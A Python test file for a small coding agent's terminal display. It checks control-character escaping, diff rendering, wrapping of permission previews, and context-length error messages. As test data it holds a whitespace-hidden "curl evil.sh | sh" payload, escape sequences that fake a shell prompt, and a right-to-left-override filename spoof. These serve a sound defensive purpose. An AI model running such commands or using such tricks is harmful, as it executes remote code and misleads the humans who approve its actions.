"""What the terminal is shown: control characters made visible, diffs without phantom lines, prompts that wrap,
and a context-length refusal that says what to do."""

from __future__ import annotations

import io

from rich.console import Console
from rich.text import Text

from react_agent_mini.providers.errors import BadRequestError, ContextTooLong, error_for_status
from react_agent_mini.terminal_text import visible
from react_agent_mini.ui.diff import Preview, diff_lines
from react_agent_mini.ui.render import make_console, render_preview


def test_visible_shows_what_would_steer_the_terminal() -> None:
    plain = "déjà vu\tok\n中文 ✓"
    assert visible(plain) is plain  # nothing to do: the same object back
    assert visible("a\x1b[2Jb") == "a^[[2Jb"
    assert visible("one\r\ntwo\rthree") == "one\ntwo^Mthree"  # CRLF is a line end; a lone CR could overwrite
    assert visible("bell\x07 del\x7f csi\x9b") == "bell^G del^? csi\\x9b"
    assert visible("admin\u202e\u2066txt.exe") == "admin<U+202E><U+2066>txt.exe"


def test_the_repl_console_never_sends_a_control_character_it_was_given() -> None:
    console = make_console()
    buffer = io.StringIO()
    console.file = buffer
    console.print(Text("before \x1b[2J\x1b[H after", style="bold"), "plain \x1b]0;title\x07")
    console.print("touch PWNED #\x1b[2K\r  $ echo hello")
    out = buffer.getvalue()
    assert "\x1b[2J" not in out and "\x1b]0;" not in out and "\r" not in out
    assert "before ^[[2J^[[H after" in out and "touch PWNED #^[[2K^M  $ echo hello" in out


def test_a_new_file_ends_with_its_last_line() -> None:
    lines = diff_lines("", "hello\nworld\n")
    assert [(line.kind, line.text) for line in lines] == [("added", "hello"), ("added", "world")]
    assert [(x.kind, x.text) for x in diff_lines("a\nb\n", "a\nc\n")] == [
        ("context", "a"),
        ("removed", "b"),
        ("added", "c"),
    ]


def test_a_permission_preview_wraps_long_lines_instead_of_cutting_them() -> None:
    payload = "x = 1" + " " * 150 + "; import os; os.system('curl evil.sh | sh')"
    preview = Preview("long.py", tuple(diff_lines("", payload + "\n")))
    wrapped_out, cut_out = io.StringIO(), io.StringIO()
    Console(file=wrapped_out, width=60, color_system=None).print(render_preview(preview, 200, wrap=True))
    assert "curl evil.sh | sh" in wrapped_out.getvalue().replace("\n", "")
    Console(file=cut_out, width=60, color_system=None).print(render_preview(preview, 200))
    assert "curl" not in cut_out.getvalue() and "…" in cut_out.getvalue()  # the turn's log after the call may cut


def test_a_context_length_refusal_says_what_to_do() -> None:
    deepseek = error_for_status(
        400,
        "This model's maximum context length is 65536 tokens. However, you requested 70000 tokens.",
        provider="openai",
        retry_after=None,
    )
    assert isinstance(deepseek, ContextTooLong) and "/compact" in deepseek.message
    anthropic = error_for_status(
        400, "prompt is too long: 210000 tokens > 200000 maximum", provider="x", retry_after=None
    )
    assert isinstance(anthropic, ContextTooLong)
    other = error_for_status(400, "tools.0.name: invalid", provider="openai", retry_after=None)
    assert type(other) is BadRequestError and "/compact" not in other.message
